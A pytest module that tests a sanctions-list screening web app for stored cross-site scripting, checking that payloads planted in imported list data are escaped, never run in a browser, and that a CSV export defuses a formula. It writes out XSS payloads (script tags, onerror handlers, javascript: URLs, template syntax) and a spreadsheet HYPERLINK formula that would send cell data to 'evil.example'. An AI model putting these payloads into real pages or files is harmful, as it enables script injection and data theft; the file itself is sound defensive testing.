"""Stored XSS through sanctions-list data: a hostile OFAC ``sdn_advanced`` XML and a hostile
UN consolidated XML (built from templates in the real formats, ``bench/listxml.py``) whose
party names, aliases, remarks, programs and addresses carry payloads (script tags,
attribute breakouts, ``javascript:`` URLs, SVG onload, template syntax, a spreadsheet
formula) are imported through ``nkwatch lists import``; then every surface that shows list
data is read: the screening page (name and address), the CSV batch page (rows drawn by
script) and its CSV download, the applicant review page (an employer matching a hostile
party), the dashboard's list panel, and the JSON API (screen, batch job, versions, diff).
HTML is checked raw (escaped on the server) and in Chromium (nothing runs; the CSP blocks an
inline script). No HTML page shows a party's detail or a diff: those are the JSON API's."""

from __future__ import annotations

import contextlib
import csv
import io
import json
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import httpx
import pytest
from bench.listxml import ListParty, ofac_advanced, un_consolidated

from . import live
from .live import INLINE, JS_URL, MARK, PASSWORD, PAYLOAD, PROBE, Live

ETH = "0x7f268357a8c2552623316e2562d90e642bb538e5"
FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")'
TEMPLATE = f"{MARK} {{{{7*7}}}} ${{7*7}} <%= 7*7 %> #{{7*7}}"
ALIAS = f"RI {MARK} ALIAS<script>window.__pwned='alias'</script>"
PROGRAM = f"{MARK}<img src=x onerror=\"window.__pwned='program'\">"
PERSON = ListParty(
    7101, f"KIM {PAYLOAD}", (ALIAS,), PAYLOAD, ("DPRK3", PROGRAM), f"{PAYLOAD} {JS_URL}", eth=ETH
)
ORG = ListParty(7102, f"KORYO {TEMPLATE} {JS_URL}", (), TEMPLATE, ("DPRK",), "", person=False)
SHEET = ListParty(7103, FORMULA, (), "", ("DPRK",), "", person=False)
ADDED = ListParty(7104, f"PAK ADDED {PAYLOAD}", (ALIAS,), PAYLOAD, (PROGRAM,), PAYLOAD)
UN_PERSON = ListParty(7201, f"RI {PAYLOAD}", (ALIAS,), PAYLOAD, (PROGRAM,), PAYLOAD)
UN_ORG = ListParty(7202, f"CHOSON {TEMPLATE}", (ALIAS,), TEMPLATE, ("DPRK",), PAYLOAD, person=False)
HOSTILE_NAMES = (PERSON.name, ORG.name, UN_PERSON.name, UN_ORG.name)

# markup that must never reach a page unescaped (each payload's opening)
RAW = ("<script>window.__pwned", "<img src=x onerror", "<svg onload", "\"'><")


def _lists(folder: Path) -> list[list[str]]:
    v2 = ListParty(PERSON.ref, PERSON.name, (ALIAS, f"{ALIAS} 2"), f"{PAYLOAD} (revised)",
                   PERSON.programs, PERSON.address, eth=ETH)  # fmt: skip
    files = {
        "sdn_advanced_v1.xml": ofac_advanced([PERSON, ORG, SHEET], date(2026, 6, 1)),
        "sdn_advanced_v2.xml": ofac_advanced([v2, ORG, SHEET, ADDED], date(2026, 6, 2)),
        "consolidated.xml": un_consolidated([UN_PERSON, UN_ORG], date(2026, 6, 1)),
    }
    for name, text in files.items():
        (folder / name).write_text(text, "utf-8")
    return [
        ["lists", "import", str(folder / "sdn_advanced_v1.xml"), str(folder / "consolidated.xml")],
        ["lists", "import", str(folder / "sdn_advanced_v2.xml")],
    ]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, bundled_store: Path) -> Iterator[Live]:
    tmp = tmp_path_factory.mktemp("listxss")
    yield from live.serve(tmp, bundled_store, before=_lists(tmp))


def _json(res: httpx.Response) -> Any:
    assert res.status_code < 300, res.text[:300]
    assert res.headers["content-type"].startswith("application/json")
    assert res.headers["x-content-type-options"] == "nosniff"
    return res.json()


def _versions(c: httpx.Client, h: dict[str, str]) -> list[str]:
    found = _json(c.get("/api/v1/lists/versions", headers=h))
    ofac = sorted((v for v in found if v["list_id"] == "us_ofac_sdn"), key=lambda v: v["published"])
    assert ofac[-1]["active"] and ofac[-1]["published"] == "2026-06-02", ofac
    assert any(v["list_id"] == "un_sc_consolidated" and v["active"] and v["published"] == "2026-06-01" for v in found)  # fmt: skip
    return [ofac[-2]["version_id"], ofac[-1]["version_id"]]


def test_hostile_list_values_come_back_exact_in_the_json_api(server: Live) -> None:
    """The data is kept as published (no mangling to make it safe) and served as JSON with
    nosniff: it is text for whoever renders it. The batch CSV defuses the formula."""
    h = server.headers("analyst")
    with server.client() as c:
        for name in HOSTILE_NAMES:
            got = _json(c.post("/api/v1/screen/name", headers=h, json={"name": name}))
            assert got["hit"] and got["matches"][0]["name"] == name, (name, got)
        got = _json(c.post("/api/v1/screen/address", headers=h, json={"address": ETH}))
        match = got["matches"][0]
        assert match["name"] == PERSON.name and PROGRAM in match["programs"], got
        old, new = _versions(c, h)
        diff = json.dumps(
            _json(c.get("/api/v1/lists/diff", headers=h, params={"old": old, "new": new}))
        )
        for planted in (ADDED.name, ALIAS, f"{PAYLOAD} (revised)"):
            assert json.dumps(planted)[1:-1] in diff, planted
        rows = "name\n" + "".join(
            f'"{n.replace(chr(34), chr(34) * 2)}"\n' for n in (*HOSTILE_NAMES, FORMULA)
        )
        up = c.post(
            "/api/v1/screen/batch",
            headers=h,
            files={"file": ("hostile.csv", rows.encode(), "text/csv")},
        )
        job = live.wait_job(c, _json(up), h)
        best = [r["best"]["name"] for r in job["result"]["results"]]
        assert best == [*HOSTILE_NAMES, FORMULA], best
        out = c.get(f"/api/v1/screen/batch/{job['id']}.csv", headers=h)
        assert out.status_code == 200 and out.headers["content-type"].startswith("text/csv")
        cells = [cell for row in csv.reader(io.StringIO(out.text)) for cell in row]
        assert "'" + FORMULA in cells and FORMULA not in cells  # fmt: skip


@contextlib.contextmanager
def _session(server: Live) -> Iterator[httpx.Client]:
    with server.client() as c:
        form = c.get("/login")
        token = form.text.split('name="csrf_token" value="')[1].split('"')[0]
        res = c.post("/login", data={"username": server.users["admin"], "password": PASSWORD,
                                     "csrf_token": token, "next": "/"})  # fmt: skip
        assert res.status_code == 303, res.text[:200]
        yield c


def _escaped(html: str, where: str, markup: bool = True) -> None:
    for raw in RAW:
        assert raw not in html, f"{where}: unescaped {raw!r}"
    if markup:  # the payload is there, as text
        assert "&lt;script&gt;window.__pwned" in html or "&lt;img src=x onerror" in html, where


def test_hostile_list_values_are_escaped_on_every_page(server: Live) -> None:
    """The HTML as the server sends it: every payload escaped, template syntax shown as
    text (not evaluated: no 49), on the screening results and the dashboard."""
    with _session(server) as c:
        token = c.get("/screen").text.split('name="csrf_token" value="')[1].split('"')[0]
        for name in HOSTILE_NAMES:
            page = c.post("/screen", data={"name": name, "csrf_token": token})
            assert page.status_code == 200, page.text[:300]
            result = page.text.split('id="result"')[1]  # the echoed query field is before it
            assert MARK in result, f"{name[:20]}: the hostile party is not on the page"
            _escaped(result, f"/screen {name[:20]}", "<script>" in name)
            if "7*7" in name:
                assert "{{7*7}}" in result and "49" not in result
        page = c.post("/screen", data={"address": ETH, "csrf_token": token})
        _escaped(page.text.split('id="result"')[1], "/screen address")
        home = c.get("/")
        assert home.status_code == 200 and all(raw not in home.text for raw in RAW)


APPLICANTS = "id,full_name,emails,employers\n" + "".join(
    f'a{i},Applicant {i},a{i}@example.org,"{n.replace(chr(34), chr(34) * 2)}"\n'
    for i, n in enumerate(HOSTILE_NAMES)
)


def test_hostile_list_values_never_run_in_chromium(server: Live, tmp_path: Path) -> None:
    h = server.headers("analyst")
    with server.client() as c:  # employers matching hostile parties: shown on the review page
        up = c.post("/api/v1/hiring/screenings", headers=h,
                    files={"file": ("applicants.csv", APPLICANTS.encode(), "text/csv")})  # fmt: skip
        screening = live.wait_job(c, _json(up), h)["result"]["screening_id"]
    batch = tmp_path / "hostile.csv"
    batch.write_text(
        "name\n" + "".join(f'"{n.replace(chr(34), chr(34) * 2)}"\n' for n in HOSTILE_NAMES)
    )
    seen: dict[str, dict[str, Any]] = {}
    with live.browser(server) as (page, dialogs):
        seen["/"] = page.evaluate(PROBE)
        for n, value in enumerate((*HOSTILE_NAMES, ETH)):
            page.goto("/screen")
            field = "address" if value == ETH else "name"
            page.locator(f"form[action='/screen'] input[name={field}]").fill(value)
            page.locator("form[action='/screen'] button[type=submit]").click()
            page.wait_for_load_state("networkidle")
            seen[f"/screen #{n}"] = page.evaluate(PROBE) | {
                "shown": MARK in page.locator("#result").inner_text()
            }
        page.goto("/screen")
        page.locator("form[action='/screen/batch'] input[type=file]").set_input_files(str(batch))
        page.locator("form[action='/screen/batch'] button[type=submit]").click()
        page.locator("#batch-results").wait_for(state="visible", timeout=120_000)
        rows = page.locator("#batch-rows").inner_text()
        seen["/screen/batch"] = page.evaluate(PROBE) | {
            "shown": rows.count(MARK) >= len(HOSTILE_NAMES)
        }
        res = page.goto(f"/applicants/{screening}")
        assert res is not None and res.status == 200
        csp = res.headers["content-security-policy"]
        assert "'unsafe-inline'" not in csp.split("script-src")[-1].split(";")[0]
        page.wait_for_load_state("networkidle")
        seen["/applicants"] = page.evaluate(PROBE) | {
            "shown": page.locator("#people").inner_text().count(MARK) >= 2
        }
        inline = page.evaluate(INLINE)
    live.assert_nothing_ran(seen)
    for url, probe in seen.items():
        assert url == "/" or probe["shown"], f"{url}: the hostile party is not shown, so not tested"
    assert not dialogs
    assert inline["blocked"] and not inline["ran"], inline
